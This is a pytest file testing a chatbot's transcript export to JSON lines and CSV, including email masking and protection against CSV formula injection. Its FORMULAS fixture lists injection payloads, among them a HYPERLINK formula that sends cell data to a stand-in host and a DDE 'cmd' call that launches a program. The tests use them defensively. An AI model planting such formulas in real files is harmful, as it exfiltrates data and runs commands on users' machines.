"""Export the logged messages in-process, as JSON lines and as CSV, with personal data masked."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from bot.services.database import transcript_store
from bot.services.exports import export_transcripts
from bot.settings import Settings
from bot.store.transcripts import BotReplyRecord
from bot.workspace.exports import EXPORT_FIELDS


@pytest.fixture
def logged(empty_settings: Settings) -> Settings:
    """One conversation of two turns, the second answered by an FAQ entry and rated up."""
    with transcript_store(empty_settings) as store:
        conversation, _ = store.open_conversation()
        store.log_turn(conversation, "hi, I am anna@example.com", None,
                       BotReplyRecord("r1", "Hello!", "greeting", 0.9, route="smalltalk"))
        store.log_turn(conversation, "Do you ship to Norway?", None,
                       BotReplyRecord("r2", "Yes.", "shipping", 0.8, route="faq", faq_id="ship", score=0.7))
        store.record_feedback(conversation, "r2", "up")
    return empty_settings


def test_jsonl_has_one_row_per_message_in_order_with_personal_data_masked(logged: Settings) -> None:
    out = io.StringIO()
    assert export_transcripts(logged, out) == 4
    rows = [json.loads(line) for line in out.getvalue().splitlines()]
    assert [r["role"] for r in rows] == ["customer", "bot", "customer", "bot"]
    assert rows[0]["text"] == "hi, I am [EMAIL]"
    assert rows[3]["route"] == "faq" and rows[3]["faq_id"] == "ship" and rows[3]["rating"] == "up"
    assert list(rows[0]) == list(EXPORT_FIELDS)


def test_csv_goes_to_a_file_with_a_header(logged: Settings, tmp_path: Path) -> None:
    out = tmp_path / "t.csv"
    assert export_transcripts(logged, out, "csv") == 4
    table = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert len(table) == 4 and table[1]["intent"] == "greeting" and table[2]["text"] == "Do you ship to Norway?"


def test_an_empty_database_exports_nothing_and_an_unknown_format_is_refused(empty_settings: Settings) -> None:
    out = io.StringIO()
    assert export_transcripts(empty_settings, out, "csv") == 0
    assert out.getvalue().splitlines() == [",".join(EXPORT_FIELDS)]
    with pytest.raises(ValueError, match="xml"):
        export_transcripts(empty_settings, io.StringIO(), "xml")


FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1, \"refund\")", "+1+2", "-2+3 stars", "@SUM(1+1)",
            "\t=1+1", "\r=1+1", "  =cmd|' /C calc'!A0", "\n-1"]


@pytest.fixture
def formulas(empty_settings: Settings) -> Settings:
    """A conversation whose customer typed text that a spreadsheet would run, and one plain question."""
    with transcript_store(empty_settings) as store:
        conversation, _ = store.open_conversation()
        for number, text in enumerate([*FORMULAS, "Do you ship to Norway?"]):
            store.log_turn(conversation, text, None,
                           BotReplyRecord(f"r{number}", "-- noted", "other", 0.5, route="faq", score=-0.12))
    return empty_settings


def test_csv_cells_a_spreadsheet_would_run_are_written_as_text(formulas: Settings, tmp_path: Path) -> None:
    out = tmp_path / "t.csv"
    export_transcripts(formulas, out, "csv")
    with out.open(newline="", encoding="utf-8") as handle:  # as the csv module reads: "\r" kept inside a cell
        table = list(csv.DictReader(handle))
    customer = [row["text"] for row in table if row["role"] == "customer"]
    assert customer == [*("'" + text for text in FORMULAS), "Do you ship to Norway?"]
    assert {row["text"] for row in table if row["role"] == "bot"} == {"'-- noted"}
    assert {row["score"] for row in table if row["role"] == "bot"} == {"-0.12"}  # a number, not text: as it is


def test_jsonl_keeps_the_text_as_typed(formulas: Settings) -> None:
    out = io.StringIO()
    export_transcripts(formulas, out)
    rows = [json.loads(line) for line in out.getvalue().splitlines()]
    assert [row["text"] for row in rows if row["role"] == "customer"] == [*FORMULAS, "Do you ship to Norway?"]
